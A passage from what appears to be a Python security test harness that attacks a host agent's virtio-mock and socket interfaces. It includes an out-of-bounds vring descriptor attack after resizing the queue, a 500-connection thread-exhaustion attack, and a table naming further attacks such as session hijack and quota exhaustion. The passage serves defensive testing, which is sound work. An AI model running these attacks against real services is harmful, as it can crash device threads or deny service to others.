    """SET_VRING_NUM again after the ring addresses were set, then a chain whose head index
    is valid for the new size only."""
    guest = RawGuest(_ctl(ctx), memory=256 * 1024, num=64)
    try:
        guest.step({"req": "GET_FEATURES"})
        guest.step({"req": "SET_MEM_TABLE", "size": guest.memory}, [guest.memfd])
        guest.step({"req": "SET_VRING_NUM", "num": 64})
        guest.step(guest_addr(guest))
        again = guest.request({"req": "SET_VRING_NUM", "num": 32768})
        ctx.engaged()
        if not again.get("ok"):
            return Outcome(False, f"second SET_VRING_NUM refused: {again.get('error')}")
        try:
            guest.finish_handshake()
        except GuestError as exc:
            return Outcome(False, f"second SET_VRING_NUM accepted, then set-up refused: {exc}")
        # A head index that the 32768-entry queue allows; its descriptor lies past the memory.
        guest.publish(20000)
        done = guest.wait_used(1, 5.0)
        closed = guest.control_closed()
        died = bool(ctx.agent and any("failed" in ln and "virtio-mock" in ln
                                      for ln in ctx.agent.lines))  # fmt: skip
        if done:
            return Outcome(False, f"accepted; the bad chain completed ({done[0][1]} B written)")
        got = "second SET_VRING_NUM accepted; the device " + (
            "thread died (socket closed, agent logged a failure)"
            if died or closed
            else "never completed the chain"
        )
        return Outcome(True, got)
    finally:
        guest.close()


def guest_addr(guest: RawGuest) -> dict[str, Any]:
    return {
        "req": "SET_VRING_ADDR",
        "desc": guest.layout.desc,
        "avail": guest.layout.avail,
        "used": guest.layout.used,
        "data_start": guest.data_start,
    }


def attack_14e(ctx: Ctx) -> Outcome:
    """500 control connections that never start the set-up."""
    count = 500
    socks = []
    refused = 0
    before = ctx.sampler.now().threads if ctx.sampler is not None and ctx.sampler.now() else 0
    try:
        for _ in range(count):
            try:
                socks.append(control_socket(_ctl(ctx), 2.0))
            except OSError:
                refused += 1
        time.sleep(0.5)
        start = time.monotonic()
        ctx.hold()
        peak = max((s.threads for s in ctx.sampler.window(start - 0.5, time.monotonic())),
                   default=0) if ctx.sampler is not None else 0  # fmt: skip
        grew = peak - before
        got = f"{len(socks)}/{count} connected ({refused} refused); "
        got += f"agent threads {before} -> {peak}"
        return Outcome(grew > int(ctx.limits.max_connections), got, {"threads": grew})
    finally:
        for s in socks:
            with contextlib.suppress(OSError):
                s.close()


# The table ---------------------------------------------------------------------------------------
@dataclass(frozen=True)
class Spec:
    id: str
    title: str
    fn: Callable[[Ctx], Outcome]
    victim: str | None  # the victim's transport; None: a check (no victim, own agents)
    probes: tuple[str, ...] = ()


SPECS: tuple[Spec, ...] = (
    Spec("1", "blob dedup reads another client's file", attack_1, "unix", ("unix",)),
    Spec("2", "another client uses/releases the victim's session", attack_2, "unix", ("unix",)),
    Spec("3", "64 half-sent request headers on one connection", attack_3, "tcp", ("tcp",)),
    Spec("4", "half-sent bodies worth 2x --max-inflight-bytes", attack_4, "tcp", ("tcp",)),
    Spec("5", "1000 idle connections (preface only)", attack_5, "tcp", ("tcp", "unix")),
    Spec("6", "64 Attach streams on one connection", attack_6, "tcp", ("tcp",)),
    Spec("7", "tiny requests, huge replies", attack_7, "unix", ("unix",)),
    Spec("8", "SyncResource of a 256 MiB file", attack_8, "unix", ("unix",)),
    Spec("9", "empty PutBlobs reserve the blob quota", attack_9, "unix", ("unix",)),
    Spec("10", "RegisterResource with 40k file names", attack_10, "unix", ("unix",)),
    Spec("11", "errors echo input / name host paths", attack_11, "unix", ("unix",)),
    Spec("12", "SIGKILL leftovers swept on restart", check_12, None),
    Spec("13", "configuration: 0.0.0.0, 777, port, status, token", check_13, None),
    Spec("14a", "virtio: error reply past the reply buffer", attack_14a, "virtio-mock",
         ("virtio-mock",)),
    Spec("14b", "virtio: 48 guests with 64 TiB...1 GiB memory files", attack_14b, "virtio-mock",
         ("virtio-mock",)),
    Spec("14c", "virtio: 64 unfetched replies of ~64 MiB", attack_14c, "virtio-mock",
         ("virtio-mock",)),
    Spec("14d", "virtio: SET_VRING_NUM after SET_VRING_ADDR", attack_14d, "virtio-mock",
         ("virtio-mock",)),
    Spec("14e", "virtio: 500 connections that never set up", attack_14e, "virtio-mock",
         ("virtio-mock",)),
)  # fmt: skip


def select_specs(wanted: str | None) -> list[Spec]:
    """The attacks named in ``--attack`` (``3``, ``3,5``, ``14`` = 14a-14e, ``14c``)."""
    if not wanted:
        return list(SPECS)
    names = [w.strip().lower() for w in wanted.split(",") if w.strip()]
    chosen = [s for s in SPECS if any(s.id == n or s.id.rstrip("abcde") == n for n in names)]
    unknown = [n for n in names if not any(s.id == n or s.id.rstrip("abcde") == n for s in SPECS)]
    if unknown:
        raise SystemExit(
            f"--attack: unknown attack(s) {', '.join(unknown)} (known: "
            f"{', '.join(s.id for s in SPECS)}; 14 means 14a-14e)"
        )
    return chosen
